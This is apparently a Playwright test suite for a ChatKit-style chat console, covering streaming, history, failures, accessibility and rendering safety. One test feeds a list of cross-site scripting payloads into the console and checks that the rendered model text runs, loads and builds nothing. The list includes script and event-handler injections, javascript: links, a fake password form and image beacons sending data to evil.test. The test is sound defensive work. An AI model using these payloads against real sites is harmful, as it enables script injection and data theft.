"""The console in a real browser: each test walks one flow of a learner."""

from __future__ import annotations

import json
from importlib.resources import files
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from shared.console import CONTENT_SECURITY_POLICY
from tests.page.conftest import Console

pytestmark = pytest.mark.slow

# What a model may be talked into writing: scripts, beacons that carry data away, a fake form.
PAYLOADS = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1><circle r=9></svg>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<a href='javascript:window.ran=1'>click</a>",
    "<object data=javascript:window.ran=1></object>",
    "<style>body { background: url(http://evil.test/style) }</style>",
    "<link rel=stylesheet href=http://evil.test/link>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/meta'>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test/form><input name=password><button>Sign in</button></form>",
    "[click](javascript:window.ran=1)",
    "[click](java\tscript:window.ran=1)",
    "[click](data:text/html,<script>window.ran=1</script>)",
    "![beacon](http://evil.test/image?q=secret)",
    "[![beacon](//evil.test/nested?q=secret)](vbscript:x)",
    '![x](x"onerror="window.ran=1)',
    "[ref]: javascript:window.ran=1\n\n[ref] `<script>window.ran=1</script>`",
]


def test_an_answer_grows_word_by_word_and_the_inspector_shows_each_frame(console: Console) -> None:
    gate, page = console.site.server.gate, console.page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    console.open()
    expect(page).to_have_title("Task Manager")
    expect(page.get_by_role("heading", name="What can I help with today?")).to_be_visible()

    console.begin("gate one two three")
    expect(console.chat).to_have_attribute("aria-busy", "true")
    gate.release(3)  # the item, its part, the first word
    expect(console.answers).to_have_text("one")
    gate.release()
    expect(console.answers).to_have_text("one two")
    gate.release(2)
    console.settled()
    expect(console.answers).to_have_text("one two three")

    types = [
        "thread.created",
        "thread.item.done",
        "stream_options",
        "thread.item.added",
        "… content_part.added",
        "… text_delta",
        "… text_delta",
        "… text_delta",
        "thread.item.done",
    ]
    expect(console.rows.locator(".type")).to_have_text(types)
    expect(console.rows.locator(".what").nth(6)).to_have_text('"two "')
    expect(page.get_by_role("tab")).to_contain_text(["threads.create"])

    # By keyboard: the third row, opened.
    console.rows.first.focus()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    opened = page.get_by_role("list", name="Events").locator("pre")
    assert json.loads(opened.inner_text())["stream_options"] == {"allow_cancel": True}
    page.get_by_label("Hide deltas").check()
    expect(console.rows.filter(visible=True)).to_have_count(6)
    page.get_by_label("Raw frames").check()
    expect(console.rows.locator(".what").first).to_contain_text('data: {"type":"thread.created"')
    console.press("Copy as curl")
    command = page.evaluate("() => navigator.clipboard.readText()")
    assert command.startswith(f"curl -N -X POST '{console.site.url}/chatkit'")
    assert '"text":"gate one two three"' in command


def test_a_proxy_that_buffers_shows_as_one_lump(console: Console) -> None:
    console.open()
    console.page.get_by_label("Network").select_option("proxy")
    console.begin("gate one two three")
    console.site.server.gate.release(6)
    console.settled()
    times = console.rows.locator(".at")
    expect(times).to_have_count(9)
    assert len(set(times.all_inner_texts())) == 1


def test_the_protocol_is_read_wherever_it_is_cut(console: Console) -> None:
    console.open()
    seen = console.page.evaluate(
        """async () => {
          const { FrameParser, NEW_THREAD, reduce } = await import(
            "/console/chatkit-local/protocol.js"
          );
          const { parseTime } = await import("/console/chatkit-local/dom.js");
          const wire = ': beat\\n\\ndata: {"a":\\r\\ndata: 1}\\r\\n\\r\\ndata:"é"\\n\\ndata: "cu';
          const cuts = new Set();
          for (let size = 1; size <= wire.length; size++) {
            const parser = new FrameParser();
            const frames = [];
            for (let at = 0; at < wire.length; at += size) {
              frames.push(...parser.push(wire.slice(at, at + size)));
            }
            cuts.add(JSON.stringify([frames.map((frame) => frame.data), parser.rest]));
          }
          const text = { type: "Text", id: "t", value: "a" };
          const card = { type: "Card", children: [{ type: "Row", children: [text] }] };
          const update = (type, more) => ({
            type: "thread.item.updated",
            item_id: "w",
            update: { type, ...more },
          });
          const states = [
            { type: "thread.item.added", item: { id: "w", type: "widget", widget: card } },
            update("widget.streaming_text.value_delta", { component_id: "t", delta: "b" }),
            update("widget.component.updated", { component_id: "t", component: { type: "Badge" } }),
            update("widget.root.updated", { widget: { type: "ListView" } }),
            { type: "thread.updated", thread: { id: "thr", items: { data: [] } } },
            { type: "thread.item.removed", item_id: "w" },
          ].reduce((all, event) => [...all, reduce(all.at(-1), event)], [NEW_THREAD]);
          return {
            cuts: [...cuts],
            widgets: states.map(({ items }) => JSON.stringify(items[0]?.widget ?? null)),
            open: states.map(({ open }) => open.length),
            times: ["2026-01-02T03:04:05", "2026-01-02T03:04:05Z", "2026-01-02T04:04:05+01:00"].map(
              (time) => parseTime(time).toISOString(),
            ),
          };
        }"""
    )
    assert seen["cuts"] == ['[[null,"{\\"a\\":\\n1}","\\"é\\""],"data: \\"cu"]']
    row = '{"type":"Card","children":[{"type":"Row","children":[%s]}]}'
    assert seen["widgets"] == [
        "null",
        row % '{"type":"Text","id":"t","value":"a"}',
        row % '{"type":"Text","id":"t","value":"ab"}',
        row % '{"type":"Badge"}',
        '{"type":"ListView"}',
        '{"type":"ListView"}',  # thread.updated brings no items, and takes none away
        "null",
    ]
    assert seen["open"] == [0, 1, 1, 1, 1, 1, 0]
    assert set(seen["times"]) == {"2026-01-02T03:04:05.000Z"}


def test_stop_ends_the_answer_on_both_sides(console: Console) -> None:
    server = console.site.server
    server.cancelled.clear()
    console.open()
    console.begin("gate one two three")
    server.gate.release(3)
    expect(console.answers).to_have_text("one")
    console.press("Stop")
    console.settled()
    expect(console.page.get_by_text("You stopped this answer.")).to_be_visible()
    expect(console.page.get_by_role("tab")).to_contain_text(["stopped"])
    assert server.cancelled.wait(10), "The server never heard that the reader had left."
    console.send("and again")
    expect(console.answers.last).to_have_text("You said: and again")
    expect(console.page.get_by_role("tab")).to_have_count(2)


def test_history_survives_a_reload(console: Console) -> None:
    page = console.page
    console.open()
    console.send("title Holidays")
    console.press("New chat")
    console.send("title Shopping")
    page.reload()
    expect(console.answers).to_have_text("This is now Shopping.")

    console.press("History")
    threads = page.get_by_role("region", name="History").locator("[data-thread]")
    expect(console.chat.locator("footer")).to_have_attribute("inert", "")  # covered: out of reach
    expect(threads.locator(".thread span")).to_have_text(["Shopping", "Holidays"])
    threads.nth(1).locator(".thread").click()
    expect(console.answers).to_have_text("This is now Holidays.")
    expect(page.get_by_role("heading", name="Holidays", exact=True)).to_be_visible()

    console.press("History")
    console.press("Rename Holidays")
    page.keyboard.type("Summer")
    page.keyboard.press("Enter")
    expect(threads.locator(".thread span")).to_have_text(["Shopping", "Summer"])
    console.press("Delete Summer")
    page.keyboard.press("Escape")
    expect(threads).to_have_count(2)
    console.press("Delete Summer")
    console.press("Delete")
    expect(threads.locator(".thread span")).to_have_text(["Shopping"])
    page.keyboard.press("Escape")
    expect(page.get_by_role("heading", name="New chat", exact=True)).to_be_visible()
    page.reload()
    console.press("History")
    expect(threads.locator(".thread span")).to_have_text(["Shopping"])


def test_what_a_turn_can_bring(console: Console) -> None:
    page = console.page
    console.open()
    console.send("notice")
    expect(console.chat.get_by_text("Nine messages are left.")).to_be_visible()
    console.send("effect")
    expect(page.get_by_text("Client effect “refresh_tasks”")).to_be_visible()
    console.send("tool")
    expect(page.get_by_text("This page answered get_page")).to_be_visible()
    expect(console.answers.last).to_have_text("Thank you for the page.")
    console.send("work")
    expect(console.chat.get_by_text("Compared the dates").last).to_be_visible()
    expect(page.get_by_role("link", name="The textbook")).to_have_attribute(
        "rel", "noopener noreferrer"
    )

    console.press_last("Good answer")
    expect(page.get_by_role("button", name="Good answer").last).to_have_attribute(
        "aria-pressed", "true"
    )
    assert console.site.server.feedback == ["positive"]
    console.press_last("Answer again")
    console.settled()
    expect(page.get_by_role("link", name="The textbook")).to_have_count(1)  # the old one is gone
    expect(page.get_by_role("tab").last).to_contain_text("threads.retry_after_item")

    console.send("widget")
    expect(page.get_by_text("Hologram (shown as JSON)")).to_be_visible()
    console.press("Mark as done")
    expect(page.get_by_text("done", exact=True)).to_be_visible()
    expect(page.get_by_role("button", name="Mark as done")).to_be_disabled()

    console.press("Stored")
    stored = page.get_by_role("list", name="Stored items").get_by_role("button")
    expect(stored.locator(".type")).to_have_text(
        ["user_message", "assistant_message"] * 2
        + ["user_message", "client_tool_call", "assistant_message"]
        + ["user_message", "workflow", "assistant_message"]
        + ["user_message", "widget"]
    )


def test_failures_say_what_happened_and_what_to_do(console: Console) -> None:
    page = console.page
    console.expected = ("Failed to load resource",)
    alert = page.get_by_role("alert")
    console.open()
    console.send("error")
    expect(alert).to_contain_text("The model is asleep.")
    console.press("Try again")
    console.settled()
    expect(page.get_by_role("tab").last).to_contain_text("threads.retry_after_item")
    console.send("crash")
    expect(alert).to_contain_text("Its terminal shows the traceback.")

    page.context.set_offline(True)
    console.send("are you there?")
    expect(alert).to_contain_text("The server did not answer")
    expect(page.get_by_text("Not sent")).to_be_visible()
    page.context.set_offline(False)
    console.press("Try again")
    console.settled()
    expect(console.answers.last).to_have_text("You said: are you there?")
    expect(page.get_by_text("Not sent")).to_have_count(0)

    def answer(route: Route, **response: Any) -> None:
        route.fulfill(**response)

    def refused(route: Route) -> None:
        answer(route, status=409, json={"detail": "The thread is locked."})

    def cut(route: Route) -> None:
        body = 'data: {"type":"progress_update","text":"x"}\n\ndata: {"ty'
        answer(route, status=200, content_type="text/event-stream", body=body)

    for handler, words in [(refused, "The thread is locked."), (cut, "The answer broke off")]:
        page.route("**/chatkit", handler)
        console.send("once more")
        expect(alert).to_contain_text(words)
        page.unroute("**/chatkit", handler)


def test_a_server_without_the_endpoint_gets_a_hint(console: Console) -> None:
    console.expected = ("Failed to load resource",)
    console.open(console.site.bare_url)
    expect(console.page).to_have_title("ChatKit console")
    console.send("hello")
    expect(console.page.get_by_role("alert")).to_contain_text(
        "This server has no POST /chatkit yet"
    )
    console.press("History")
    expect(console.page.get_by_role("alert").last).to_contain_text("no POST /chatkit yet")


def test_model_text_cannot_run_load_or_ask_for_anything(console: Console) -> None:
    page = console.page
    console.expected = ("404 (Not Found)",)  # images of this origin may load; these are not there
    response = page.goto(console.site.url)
    assert response
    assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    console.open()
    for payload in PAYLOADS:
        console.send(f"say {payload}")
    expect(console.answers).to_have_count(len(PAYLOADS))
    assert page.evaluate("() => window.ran") is None
    built = console.answers.locator(
        "script, iframe, object, embed, style, link, meta, base, form, svg, [onerror], [onload]"
    )
    expect(built).to_have_count(0)
    for link in console.answers.get_by_role("link").all():
        assert (link.get_attribute("href") or "").startswith(("http:", "https:", "mailto:"))
        assert link.get_attribute("rel") == "noopener noreferrer"
    for image in console.answers.locator("img").all():
        assert (image.get_attribute("src") or "").startswith(console.site.url)
    expect(console.answers.nth(0)).to_have_text(PAYLOADS[0])  # shown, not swallowed


def test_each_user_has_a_history_of_their_own(console: Console) -> None:
    page = console.page
    console.open()
    console.send("title Mine")
    page.get_by_text("alice", exact=True).click()
    expect(page.get_by_role("heading", name="New chat", exact=True)).to_be_visible()
    expect(page.get_by_role("tab")).to_have_count(0)
    console.send("title Of Alice")
    assert set(console.site.server.users) == {"you", "alice"}
    page.reload()  # the address remembers who speaks
    console.press("History")
    titles = page.get_by_role("region", name="History").locator(".thread span")
    expect(titles).to_have_text(["Of Alice"])
    page.get_by_text("you", exact=True).click()
    console.press("History")
    expect(titles).to_have_text(["Mine"])


def test_a_long_conversation_opens_at_its_end_and_keeps_the_readers_place(console: Console) -> None:
    page = console.page
    console.open()
    console.send("fill 119")
    page.reload()
    messages = console.answers
    expect(messages).to_have_count(50)
    expect(messages.last).to_be_in_viewport()
    expect(messages.first).to_have_text("Message 70.")
    console.press("Show earlier messages")
    expect(messages).to_have_count(100)
    expect(messages.nth(50)).to_be_in_viewport()  # what one was reading stays in sight

    # The page follows the answer, but not under the eyes of somebody who reads further up.
    gate = console.site.server.gate
    console.begin("gate one two three")
    gate.release(3)
    expect(messages.last).to_have_text("one")
    expect(messages.last).to_be_in_viewport()
    messages.last.hover()
    page.mouse.wheel(0, -2000)
    expect(messages.last).not_to_be_in_viewport()
    gate.release(3)
    console.settled()
    expect(messages.last).to_have_text("one two three")
    expect(messages.last).not_to_be_in_viewport()
    console.press("Go to the latest message")
    expect(messages.last).to_be_in_viewport()

    console.press("Stored")
    stored = page.get_by_role("list", name="Stored items").get_by_role("button")
    expect(stored).to_have_count(122)
    expect(page.get_by_text("122 items in 2 pages")).to_be_visible()


def test_the_element_has_the_interface_of_openais(console: Console) -> None:
    console.open()
    seen = console.page.evaluate(
        """async () => {
          const chat = document.createElement("openai-chatkit");
          const seen = [];
          const settled = async () => {
            while (chat.getAttribute("aria-busy") !== "false") {
              await new Promise((done) => setTimeout(done, 10));
            }
          };
          const names = ["ready", "error", "log", "effect", "deeplink", "response.start",
            "response.end", "thread.change", "thread.load.start", "thread.load.end",
            "tool.change", "history.open", "history.close"];
          const calls = [];
          const spy = (url, init) => {
            calls.push([url, init.method, typeof init.body, init.signal?.constructor.name]);
            return fetch(url, init);
          };
          document.querySelector("#chat").replaceChildren(chat);
          chat.setOptions({ api: { url: "/chatkit", fetch: spy, domainKey: "x" } });
          // Like React's passive effect, listeners come late: after timers of 0 ms.
          await new Promise((done) => setTimeout(done));
          const ready = new Promise((done) => chat.addEventListener("chatkit.ready", done));
          for (const name of names.filter((name) => name !== "log")) {
            chat.addEventListener(`chatkit.${name}`, () => seen.push(name));
          }
          await Promise.race([ready, new Promise((done) => setTimeout(done, 5000))]);
          await chat.setComposerValue({ text: "effect" });
          await chat.focusComposer();
          const focused = chat.shadowRoot.activeElement?.value;
          await chat.sendUserMessage({ text: "effect" });
          await settled();
          await chat.fetchUpdates();
          await chat.showHistory();
          await chat.hideHistory();
          await chat.setThreadId(null);
          const unable = await chat.sendCustomAction({ type: "x" }).catch((error) => error.message);
          return { seen, focused, unable, calls: calls.slice(0, 1) };
        }"""
    )
    assert seen["focused"] == "effect"
    assert seen["calls"] == [["/chatkit", "POST", "string", "AbortSignal"]]
    assert "needs one" in seen["unable"]
    assert seen["seen"] == [
        "ready",
        "response.start",
        "thread.change",
        "effect",
        "response.end",
        "thread.load.start",
        "thread.load.end",
        "history.open",
        "history.close",
        "thread.change",
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_everybody_can_use_it_on_any_screen(console: Console, scheme: str) -> None:
    page = console.page
    console.expected = ("Applying inline style",)  # axe's own, while it measures
    page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    console.open()
    console.send("work")
    console.send(
        f"say A {'very' * 60} long word, and\n\n```\n{'code ' * 60}\n```\n\n|a|b|\n|-|-|\n|1|2|"
    )
    console.send("widget")
    console.send("notice")
    assert_accessible(page)
    console.press("History")
    assert_accessible(page)
    console.press("Close history")
    page.set_viewport_size({"width": 360, "height": 720})
    assert_no_sideways_scroll(page)
    console.press("Inspector")
    expect(console.rows.first).to_be_visible()
    console.rows.first.click()
    assert_no_sideways_scroll(page)
    assert_accessible(page)
    console.press("Stored")
    expect(page.get_by_role("list", name="Stored items")).to_be_visible()
    assert_no_sideways_scroll(page)
    assert_accessible(page)


def assert_no_sideways_scroll(page: Page) -> None:
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 360
    column = page.locator("openai-chatkit .scroller")
    if column.is_visible():
        assert column.evaluate("node => node.scrollWidth <= node.clientWidth")


def assert_accessible(page: Page) -> None:
    page.evaluate((files("axe_playwright_python") / "axe.min.js").read_text("utf-8"))
    violations = page.evaluate("async () => (await axe.run()).violations")
    serious = [v for v in violations if v["impact"] in {"serious", "critical"}]
    assert not serious, [(v["id"], [node["html"] for node in v["nodes"]][:3]) for v in serious]
